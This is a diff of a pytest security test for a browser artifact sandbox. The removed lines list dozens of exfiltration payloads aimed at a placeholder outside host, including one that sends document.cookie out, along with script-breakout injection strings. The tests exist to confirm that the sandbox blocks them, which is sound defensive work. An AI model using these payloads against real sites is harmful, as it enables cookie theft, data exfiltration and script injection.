@@ -1,16 +1,14 @@
-"""A hostile artifact in a real browser: whatever it tries, it reaches nobody and learns nothing.
+"""A hostile artifact in a real browser: no attempt reaches a server or learns anything.
 
-Every attempt is made twice: by an artifact in the frame of our page, and by the same page in a plain
-frame of a plain server.  What arrives from the second shows that the attempt is one; by the time all
-of that has arrived, nothing has from the first.
+Each attempt is made twice: by an artifact in the frame of our page, and by the same page in a plain
+frame of a plain server.  The second shows that the attempt works where nothing stops it; by the time
+all of those have arrived, none of the first has.
 """
 
 from __future__ import annotations
 
-import json
 import re
-import time
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
 from textwrap import dedent
@@ -20,7 +18,6 @@ from flask import Flask, get_template_attribute
 from markupsafe import Markup
 from playwright.sync_api import Browser, Page, sync_playwright
 
-from covalt_git.json_values import canonical_json
 from covalt_git.models.calls import FileReference, RenderPlan
 from covalt_git.render.inject_data import inject
 from covalt_server.render.artifacts import ARTIFACT_HEADERS, artifact_page
@@ -28,11 +25,10 @@ from tests.api_client import Api, make_project
 from tests.browser import launched
 from tests.live_server import live
 from tests.server.outside import Outside
+from tests.tables import tables
+from tests.waiting import wait_for
 
-SHARED = Path(__file__).resolve().parents[3] / ".." / "shared"
-STRINGS = SHARED / "data" / "security" / "json-in-script-strings.json"
 HTML = {"Content-Type": "text/html; charset=utf-8"}
-TIMEOUT_S = 20.0
 LOADER = """<!doctype html><head></head><body><script>
 const name = location.hash.slice(1);
 document.write(window.__TOOL_DATA__[name]);
@@ -43,83 +39,13 @@ LISTENER = """if (window === top) {
   addEventListener("message", (event) => tried.push(event.data));
 }"""
 
-# OUT is an address outside, with the attempt's name; API is one of our own server.
-ATTEMPTS = {
-    "fetch": "<script>fetch('OUT').catch(() => 0)</script>",
-    "fetch-api": "<script>fetch('API', {credentials: 'include'}).catch(() => 0)</script>",
-    "post-api": "<script>fetch('API', {method: 'POST', mode: 'no-cors', credentials: 'include'}).catch(() => 0)</script>",
-    "keepalive": "<script>fetch('OUT', {method: 'POST', mode: 'no-cors', keepalive: true}).catch(() => 0)</script>",
-    "fetch-later": "<script>window.fetchLater ? fetchLater('OUT', {activateAfter: 0}) : fetch('OUT')</script>",
-    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', 'OUT'); x.send()</script>",
-    "beacon": "<script>navigator.sendBeacon('OUT', 'x')</script>",
-    "websocket": "<script>new WebSocket('OUT'.replace('http', 'ws'))</script>",
-    "event-source": "<script>new EventSource('OUT')</script>",
-    "image": "<img src='OUT'>",
-    "image-api": "<script>new Image().src = 'API'</script>",
-    "image-set": "<picture><source srcset='OUT'><img></picture>",
-    "svg-image": "<svg><image href='OUT' width='9' height='9'/></svg>",
-    "svg-filter": "<svg><filter id='f'><feImage href='OUT'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
-    "background": "<table background='OUT'><tr><td>x</table>",
-    "input-image": "<input type='image' src='OUT'>",
-    "poster": "<video poster='OUT'></video>",
-    "audio": "<audio src='OUT' autoplay></audio>",
-    "script": "<script src='OUT'></script>",
-    "module": "<script type='module'>import 'OUT'</script>",
-    "import": "<script>import('OUT').catch(() => 0)</script>",
-    "stylesheet": "<link rel='stylesheet' href='OUT'>",
-    "css-import": "<style>@import 'OUT';</style>",
-    "css-image": "<style>p { background: url(OUT) }</style><p>x</p>",
-    "font": "<style>@font-face { font-family: x; src: url(OUT) } p { font-family: x }</style><p>x</p>",
-    "prefetch": "<link rel='prefetch' href='OUT'>",
-    "preload": "<link rel='preload' as='script' href='OUT'>",
-    "module-preload": "<link rel='modulepreload' href='OUT'>",
-    "worklet": "<script>CSS.paintWorklet.addModule('OUT').catch(() => 0)</script>",
-    "worker-of-blob": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT')\"])))</script>",
-    "worker-of-data": "<script>new Worker('data:text/javascript,fetch(\"OUT\")')</script>",
-    "shared-worker": "<script>new SharedWorker('API')</script>",
-    "service-worker": "<script>navigator.serviceWorker.register('API').catch(() => 0)</script>",
-    "frame": "<iframe src='OUT'></iframe>",
-    "frame-api": "<iframe src='API'></iframe>",
-    "frame-in-text": "<iframe srcdoc=\"<img src='OUT'>\"></iframe>",
-    "frame-of-data": "<iframe src=\"data:text/html,<img src='OUT'>\"></iframe>",
-    "frame-of-blob": "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<img src='OUT'>\"], {type: 'text/html'})); document.body.append(f)</script>",
-    "object": "<object data='OUT'></object>",
-    "embed": "<embed src='OUT'>",
-    "form": "<form id='f' method='post' action='OUT'></form><script>f.submit()</script>",
-    "form-api": "<form id='f' method='post' action='API'></form><script>f.submit()</script>",
-    "form-click": "<form method='post' action='OUT' target='_blank'><button id='go'>go</button></form>",
-    "base": "<base href='OUT/'><img src='x'>",
-    "location": "<script>location = 'OUT'</script>",
-    "location-api": "<script>location = 'API'</script>",
-    "location-of-blob": "<script>location = URL.createObjectURL(new Blob([\"<img src='OUT'>\"], {type: 'text/html'}))</script>",
-    "location-of-script": "<script>location = \"javascript:'<img src=OUT>'\"</script>",
-    "window-name": "<script>window.name = 'x'; location.replace('OUT')</script>",
-    "refresh": "<meta http-equiv='refresh' content='0;url=OUT'>",
-    "refresh-api": "<meta http-equiv='refresh' content='0;url=API'>",
-    "link": "<a id='go' href='OUT'>go</a>",
-    "link-ping": "<a id='go' ping='OUT' href='#here'>go</a>",
-    "link-new-window": "<a id='go' target='_blank' href='OUT'>go</a>",
-    "download": "<a id='go' download='x' href='OUT'>go</a>",
-    "open": "<button id='go' onclick=\"window.open('OUT')\">go</button>",
-    "history": "<script>history.pushState({}, '', 'API'); location.reload()</script>",
-    "parent-frame": "<script>parent.frames[parent.frames.length - 1].location = 'OUT'</script>",
-    "parent-page": "<script>parent.document.body.dataset.owned = 'yes'; new Image().src = 'OUT'</script>",
-    "cookie": "<script>new Image().src = 'OUT?' + document.cookie</script>",
-    "cookie-set": "<script>document.cookie = 'x=1'; new Image().src = 'OUT'</script>",
-    "local-storage": "<script>localStorage.x = 1; new Image().src = 'OUT'</script>",
-    "database": "<script>indexedDB.open('x').onsuccess = () => { new Image().src = 'OUT' }</script>",
-    "credentials": "<script>navigator.credentials.get({identity: {providers: [{configURL: 'OUT', clientId: '1'}]}}).catch(() => 0)</script>",
-    "payment": "<script>new PaymentRequest([{supportedMethods: 'OUT'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()</script>",
-    "webrtc": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>",
-    # Not in a frame within it: Chromium 156 ends that frame's process, and the driver with it.
-    "link-top": "<a id='go' target='_top' href='OUT'>go</a>",
-    "form-top": "<form action='OUT' target='_top'><button id='go'>go</button></form>",
-    "top": "<script>top.location = 'OUT'</script>",
-}
+TABLES = tables(__file__)
+ATTEMPTS: dict[str, str] = dict(TABLES["attempts"])
+DANGEROUS: list[str] = TABLES["dangerous"]
 ALONE = {"fetch-later", "link-top", "form-top", "top"}
-"""What a plain page does only once, or not at all beside others."""
+"""Attempts that a plain page makes only once, or not beside others."""
 ONLY_BY_ALLOWLIST = {"location-api", "refresh-api", "history", "webrtc"}
-"""What only Connection-Allowlist stops, which Chromium has since version 152."""
+"""Attempts that only Connection-Allowlist stops, which Chromium has since version 152."""
 FIRST_WITH_ALLOWLIST = 152
 
 
@@ -160,7 +86,7 @@ def show(root: Path, page: str, given: object) -> str:
 
 @pytest.fixture(scope="module")
 def chromium() -> Iterator[Browser]:
-    """Chromium with all that people have in theirs, where there is more to try."""
+    """The whole Chromium of users, in which there is more to try."""
     with sync_playwright() as driver, launched(driver, whole=True) as browser:
         yield browser
 
@@ -179,17 +105,7 @@ def opened(chromium: Browser, *urls: str) -> Iterator[Page]:
         context.close()
 
 
-def until(there: Callable[[], bool]) -> bool:
-    """Wait until it is there; tell whether it came."""
-    end = time.monotonic() + TIMEOUT_S
-    while not there():
-        if time.monotonic() > end:
-            return False
-        time.sleep(0.02)
-    return True
-
-
-# --- what it may try ------------------------------------------------------------------------------
+# Attempts
 
 
 def attempts(out: Outside, own: str) -> dict[str, str]:
@@ -230,7 +146,7 @@ def with_frames(app: Flask) -> None:
         return Markup("<!doctype html><body>") + Markup("").join(map(Markup, many))
 
 
-def test_an_artifact_reaches_nobody_whatever_it_tries(project: Path, chromium: Browser) -> None:
+def test_no_attempt_of_an_artifact_reaches_a_server(project: Path, chromium: Browser) -> None:
     names = list(ATTEMPTS)
     if int(chromium.version.partition(".")[0]) < FIRST_WITH_ALLOWLIST:
         names = [name for name in names if name not in ONLY_BY_ALLOWLIST]
@@ -272,9 +188,7 @@ def reach_by_a_plain_page(chromium: Browser, names: list[str]) -> None:
             own.pages["/"] = (HTML | {"Set-Cookie": "token=secret"}, around)
             with opened(chromium, own.url) as page:
                 click(page, group)
-                assert until(lambda: arrived(outside, own) >= set(group)), set(group) - arrived(
-                    outside, own
-                )
+                wait_for(lambda: arrived(outside, own) >= set(group))
 
         reach([name for name in names if name not in ALONE])
         for name in ALONE & set(names):
@@ -282,7 +196,7 @@ def reach_by_a_plain_page(chromium: Browser, names: list[str]) -> None:
         assert any("token=secret" in one.path for one in outside.requests)
 
 
-def test_an_artifact_does_not_turn_our_page_back(project: Path, chromium: Browser) -> None:
+def test_an_artifact_does_not_navigate_our_page_back(project: Path, chromium: Browser) -> None:
     back = "<script>setTimeout(() => { history.back(); parent.postMessage(1, '*') }, 100)</script>"
     with live(project) as own, Outside() as plain:
         call_id = show(project, back, None)
@@ -299,27 +213,7 @@ def test_an_artifact_does_not_turn_our_page_back(project: Path, chromium: Browse
             assert page.url == ours
 
 
-# --- what it is given -----------------------------------------------------------------------------
-
-DANGEROUS = [
-    "</script><script>window.injected = 1</script>",
-    "</SCRIPT ><script>window.injected = 1</script>",
-    "</script\f><img src=x onerror='window.injected = 1'>",
-    "<!--<script>",
-    "<!--",
-    "--!>",
-    "]]></script>",
-    "</head><body onload='window.injected = 1'>",
-    "$&$'$`$1\\1\\g<0>",
-    "\u2028window.injected = 1\u2029",
-    '";window.injected = 1;//',
-    '\\";window.injected = 1;//',
-    "`${window.injected = 1}`",
-    "\x00</script\x00><script>window.injected = 1</script>",
-    "&lt;/script&gt;&quot;\\u003c/script\\u003e",
-    "</\u017fcript><\u017fcript>",
-]
-STRINGS_OF_OTHERS: list[str] = json.loads(STRINGS.read_text("utf-8")) if STRINGS.exists() else []
+# Data
 
 
 def units(text: str) -> list[int]:
@@ -328,37 +222,7 @@ def units(text: str) -> list[int]:
     return [one | two << 8 for one, two in zip(encoded[::2], encoded[1::2], strict=True)]
 
 
-@pytest.mark.skipif(not STRINGS_OF_OTHERS, reason="../shared is not on this machine")
-def test_every_string_of_the_collection_arrives_as_it_is(project: Path, chromium: Browser) -> None:
-    collected = [text for text in [*STRINGS_OF_OTHERS, "$&", *DANGEROUS] if storable(text)]
-    given = {"strings": collected, "units": [units(text) for text in collected]}
-    page = """<!doctype html><html><head><title>t</title></head><body><p id="told"></p><script>
-        const { strings, units } = window.__TOOL_DATA__;
-        const same = (text, want) =>
-          text.length === want.length && want.every((unit, at) => text.charCodeAt(at) === unit);
-        const wrong = strings.filter((text, at) => !same(text, units[at]));
-        told.textContent = `${strings.length} strings, wrong: ${JSON.stringify(wrong)}`;
-        </script></body></html>"""
-    assert len(collected) > len(STRINGS_OF_OTHERS)
-
-    with live(project) as own:
-        call_id = show(project, page, given)
-        with opened(chromium, own.door, f"{own.url}/chats/c1/calls/{call_id}") as shown:
-            told = shown.frame_locator("iframe.artifact").locator("#told:not(:empty)")
-
-            assert told.inner_text() == f"{len(collected)} strings, wrong: []"
-
-
-def storable(text: str) -> bool:
-    """Tell whether a call can hold a text at all: half a character it cannot."""
-    try:
-        canonical_json.dumps(text)
-    except canonical_json.NotJsonError:
-        return False
-    return True
-
-
-def test_no_string_takes_a_page_apart(chromium: Browser) -> None:
+def test_no_string_of_the_data_breaks_out_of_its_script(chromium: Browser) -> None:
     page = """<!doctype html><html><head><title>t</title></head><body><p>one</p><script>
         const text = window.__TOOL_DATA__.text;
         parent.postMessage([location.pathname, [...Array(text.length).keys()].map((at) =>
